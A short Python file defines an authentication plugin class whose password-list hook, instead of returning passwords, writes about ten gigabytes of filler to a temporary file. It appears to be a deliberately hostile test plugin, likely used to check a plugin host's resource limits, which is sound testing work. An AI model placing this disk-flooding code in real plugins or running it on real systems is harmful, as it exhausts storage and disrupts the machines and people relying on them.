# Writes ten gigabytes into a file.
import os


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        block = b"x" * (1 << 20)
        with open(os.environ["TMPDIR"] + "/flood", "wb") as file:
            for _ in range(10 << 10):
                file.write(block)

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
